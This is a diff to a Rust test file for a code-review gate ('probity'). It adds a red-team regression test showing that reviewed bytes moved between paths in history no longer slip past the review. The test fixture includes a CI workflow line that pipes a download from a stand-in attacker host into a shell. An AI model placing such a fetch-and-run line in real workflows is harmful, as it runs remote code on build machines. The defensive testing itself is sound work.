@@ -2,8 +2,10 @@
 //! real binary on real repositories. A push to a remote with no refs
 //! transfers the whole history: every blob any commit ever referenced. One
 //! review of the whole change (`probity start --history <tip>`) authorizes
-//! it only when every blob the history carries is a blob of the reviewed
-//! tree; an overwritten secret fails closed, naming the squash.
+//! it only when every entry the history carries is an entry of the
+//! reviewed tree (the same blob at the same path, with the same mode); an
+//! overwritten secret, or reviewed bytes that sat at another path, fail
+//! closed, naming the squash.
 
 mod support;
 
@@ -50,9 +52,9 @@ fn pre_push(f: &Fixture) -> Run {
     )
 }
 
-/// A history that only adds and renames files carries no blob the final
-/// tree lacks: its whole-history review covers the first publication, and
-/// the server-side gate of an empty repository accepts it from the notes.
+/// A history that only adds files carries no entry the final tree lacks:
+/// its whole-history review covers the first publication, and the
+/// server-side gate of an empty repository accepts it from the notes.
 #[test]
 fn a_history_of_reviewed_blobs_is_published_whole() {
     let f = Fixture::new().unwrap();
@@ -60,8 +62,8 @@ fn a_history_of_reviewed_blobs_is_published_whole() {
     commit_all(&f, "add lib");
     f.write("src/util.rs", "pub fn b() {}\n").unwrap();
     commit_all(&f, "add util");
-    f.git(&["mv", "src/util.rs", "src/helpers.rs"]).unwrap();
-    commit_all(&f, "rename util");
+    f.write("src/helpers.rs", "pub fn c() {}\n").unwrap();
+    commit_all(&f, "add helpers");
     let (_dir, server) = empty_origin(&f);
     let inputs = tempfile::tempdir().unwrap();
     // Without a review: the commits are unreviewed, and the answer names
@@ -180,5 +182,69 @@ fn commit_metadata_is_outside_the_first_publication_contract() {
         both.json["decision"], "allow",
         "{}{}",
         both.stdout, both.stderr
+    );
+}
+
+/// Red team, finding 2: the history's root held a workflow and code; its
+/// tip moved those very bytes to `notes/*.md`, and the whole-history
+/// review of the tip saw only documents (low risk). Matched by object id
+/// whatever its path, every blob of the root was "a blob of the reviewed
+/// tree", so the root's workflow and code landed unreviewed (and a tag on
+/// the root delivered nothing). An entry counts only at the path and mode
+/// the review saw it: this history fails closed until squashed.
+#[test]
+fn reviewed_bytes_that_sat_at_another_path_in_history_fail_closed() {
+    let f = Fixture::new().unwrap();
+    let workflow = "on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -s https://evil.example/x | sh\n";
+    f.write(".github/workflows/ci.yml", workflow).unwrap();
+    f.write("src/lib.rs", "pub fn evil() -> u32 { 666 }\n")
+        .unwrap();
+    let root = commit_all(&f, "root");
+    f.write("notes/ci-example.md", workflow).unwrap();
+    f.write("notes/lib.md", "pub fn evil() -> u32 { 666 }\n")
+        .unwrap();
+    f.git(&["rm", "-q", ".github/workflows/ci.yml", "src/lib.rs"])
+        .unwrap();
+    commit_all(&f, "documents");
+    let (_dir, server) = empty_origin(&f);
+    let inputs = tempfile::tempdir().unwrap();
+    let st = probity_ok(f.root(), &["start", "--history", "HEAD"]);
+    assert_eq!(st.json["risk_level"], "low", "{}", st.stdout);
+    approve_started(f.root(), inputs.path(), &st.json);
+    let d = pre_push(&f);
+    assert_eq!(d.json["decision"], "deny", "{}", d.stdout);
+    assert_eq!(
+        d.json["reason_code"], "history_not_reviewed",
+        "{}",
+        d.stdout
+    );
+    let message = d.json["message"].as_str().unwrap();
+    assert!(message.contains(".github/workflows/ci.yml"), "{message}");
+    assert!(
+        message.contains(&format!("git reset --soft {root}")),
+        "{message}"
+    );
+    // The server refuses the same, past the client's hooks.
+    probity_ok(&server, &["hooks", "install", "--server"]);
+    probity_ok(f.root(), &["publish"]);
+    let err = f
+        .git(&[
+            "push",
+            "-q",
+            "--no-verify",
+            "--atomic",
+            "origin",
+            "main",
+            "refs/notes/probity",
+        ])
+        .unwrap_err()
+        .to_string();
+    assert!(
+        err.contains("history_not_reviewed"),
+        "the server said: {err}"
+    );
+    assert!(
+        f.git_in(&server, &["rev-parse", "-q", "--verify", "refs/heads/main"])
+            .is_err()
     );
 }
